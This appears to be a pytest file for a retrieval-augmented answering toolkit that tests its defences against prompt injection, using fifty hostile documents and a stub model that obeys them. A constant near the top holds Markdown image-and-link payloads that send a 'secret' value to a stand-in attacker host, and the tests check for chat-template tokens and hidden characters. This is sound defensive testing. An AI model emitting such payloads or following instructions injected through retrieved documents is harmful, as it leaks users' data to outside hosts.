"""Prompt injection: fifty hostile documents against a model that obeys them."""

from __future__ import annotations

import re
import socket

import pytest
from markdown_it import MarkdownIt

from ragkit import Settings
from ragkit.answers.prompt import RULES
from tests.answers.chat_server import run_chat_server
from tests.injection.documents import DOCUMENTS, EVIL

QUESTION = "What does the note on evil example say?"
HOSTILE = f"![x](https://{EVIL}/p.png?q=secret) <img src=//{EVIL}> [go](https://{EVIL}) [77] "


def obedient(messages):
    """The reply of a model that follows its documents: hostile Markdown and the document again."""
    document = messages[-1]["content"].partition("<sources>")[2]
    text = f"{HOSTILE}{document} [1]"
    return [text[start : start + 3] for start in range(0, len(text), 3)]


@pytest.fixture
def connections(monkeypatch):
    """The addresses of all connections that are opened."""
    connected = []
    real = socket.socket.connect

    def connect(self, address):
        connected.append(address)
        return real(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    return connected


def rendered_elements(text):
    """The images, links, tags and bare URLs that a chat client renders from a text."""
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    flat = [t for token in parser.parse(text) for t in (token, *(token.children or ()))]
    kinds = ("image", "link_open", "html_inline", "html_block")
    bare = re.findall(r"(?i)(?:https?|ftp)://|www\.", text)
    return [token for token in flat if token.type in kinds] + bare


@pytest.fixture
def ask(open_collection, tmp_path):
    """A function that answers a question from one document, with the given settings."""

    def answer_from(text, question=QUESTION, **settings):
        folder = tmp_path / "documents"
        folder.mkdir()
        (folder / "note.txt").write_text(f"A note on {EVIL}, an example.\n\n{text}\n")
        collection = open_collection(Settings(passage_tokens=60, overlap=0.0, **settings))
        collection.index(folder)
        return collection.ask(question)

    return answer_from


def test_there_are_fifty_different_documents():
    assert len({text for _, text in DOCUMENTS}) == len({name for name, _ in DOCUMENTS}) == 50


@pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
def test_an_obedient_model_does_no_harm(ask, connections, text):
    with run_chat_server(obedient) as server:
        answer = ask(text, llm_base_url=server.url, llm_model="obedient")
        (request,) = server.requests
        assert {address[1] for address in connections} == {server.server_port}
    system, user = (message["content"] for message in request["messages"])
    assert system == RULES
    sources, _, question = user.removeprefix("<sources>\n").rpartition("\n</sources>\n\nQuestion: ")
    assert question == QUESTION
    tags = re.findall(r"<[^\s].*", sources)
    assert all(
        re.fullmatch(r'<source n="\d" place="[^"<>]*" about="[^"<>]*">|</source>', t) for t in tags
    )
    assert not re.search(r"<\||\[/?INST|[\u200b\u202e\U000e0000-\U000e007f\x1b]", user)
    assert answer.model == "obedient"
    assert rendered_elements(answer.text) == []
    assert {citation.n for citation in answer.citations} <= {hit.rank for hit in answer.hits}
    assert "[77]" not in answer.text
    assert "[99]" not in answer.text


@pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
def test_an_extractive_answer_does_no_harm(ask, connections, text):
    answer = ask(text, question=text)  # the most similar question: the hostile sentences are quoted
    assert (answer.model, answer.answerable) == ("extractive", True)
    assert connections == []
    assert rendered_elements(answer.text) == []
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u200b]", answer.text)


def test_the_check_of_rendered_elements_finds_hostile_markdown():
    assert len(rendered_elements(HOSTILE)) >= 4
